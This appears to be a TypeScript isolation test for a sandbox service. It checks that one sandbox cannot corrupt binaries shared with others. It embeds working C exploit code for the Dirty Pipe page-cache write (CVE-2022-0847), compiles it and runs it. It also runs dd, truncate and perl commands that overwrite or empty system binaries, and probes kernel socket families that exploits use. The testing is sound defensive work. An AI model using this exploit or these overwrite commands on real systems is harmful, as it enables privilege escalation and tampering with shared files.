/** Attacks on files that all sandboxes read from one place: what one of them writes into the page cache, all would run. */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { test } from 'node:test'
import { digest, feed, neighbours, runtimeFiles } from './helpers/attack.ts'

const { provider, a, b, image, says } = neighbours()
const SHARED = '/usr/bin/jq'

/** The way of CVE-2022-0847: a pipe that still says its pages may be written to, and a page of the file in it. */
const DIRTY_PIPE = `#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/types.h>
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
  int fd = open(argv[argc - 1], O_RDONLY), p[2];
  char buffer[4096] = {0};
  if (fd < 0 || pipe(p)) return 2;
  int size = fcntl(p[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= 4096) if (write(p[1], buffer, 4096) < 0) return 2;
  for (int left = size; left > 0; left -= 4096) if (read(p[0], buffer, 4096) < 0) return 2;
  loff_t at = 0;
  if (splice(fd, &at, p[1], NULL, 1, 0) != 1) return 2;
  if (write(p[1], "OWNED", 5) != 5) return 2;
  puts("attacked");
  return 0;
}`

test('36. a file that all sandboxes share stays what it is while one of them attacks it', async () => {
  const file = path.join(image.rootfs, SHARED)
  const inSandbox = (id: string) => says(id, `sha256sum < ${SHARED}`)
  const before = [digest([file]), digest(runtimeFiles(image.runc)), await inSandbox(b)]
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dirty-'))
  try {
    fs.writeFileSync(path.join(dir, 'attack.c'), DIRTY_PIPE)
    execFileSync('gcc', ['-Os', '-static', '-s', '-o', path.join(dir, 'attack'), path.join(dir, 'attack.c')])
    await feed(
      provider,
      a,
      ['/bin/sh', '-c', 'cat > /tmp/attack && chmod +x /tmp/attack'],
      fs.readFileSync(path.join(dir, 'attack')),
    )
  } finally {
    fs.rmSync(dir, { recursive: true })
  }
  assert.equal(await says(a, `/tmp/attack ${SHARED}`), 'attacked')
  // Everything else that one might write to it with.
  await says(
    a,
    `{ dd if=/dev/zero of=${SHARED} bs=1 count=4 conv=notrunc; truncate -s 0 /usr/bin/tree; perl -e 'open F, "+<", "/usr/bin/less"; syswrite F, "OWNED"'; } 2>/dev/null; true`,
  )
  assert.deepEqual([digest([file]), digest(runtimeFiles(image.runc)), await inSandbox(b)], before)
  for (const [name, magic] of [
    ['tree', 'ELF'],
    ['less', 'ELF'],
  ] as const)
    assert.match(await says(b, `head -c 4 /usr/bin/${name}`), new RegExp(magic))
  assert.equal(await says(b, 'jq -n 6*7'), '42')
})

test('36. the ways of 2026 into the page cache are closed before the kernel is asked', async () => {
  // AF_ALG (CVE-2026-31431), AF_RXRPC (CVE-2026-43500), io_uring: refused by name, whatever the kernel's version.
  for (const [family, type] of [
    [38, 5],
    [33, 2],
    [40, 1],
  ])
    assert.equal(
      await says(a, `perl -e 'socket(my $s, ${family}, ${type}, 0) and print "open" or print "$!"'`),
      'Operation not permitted',
    )
})
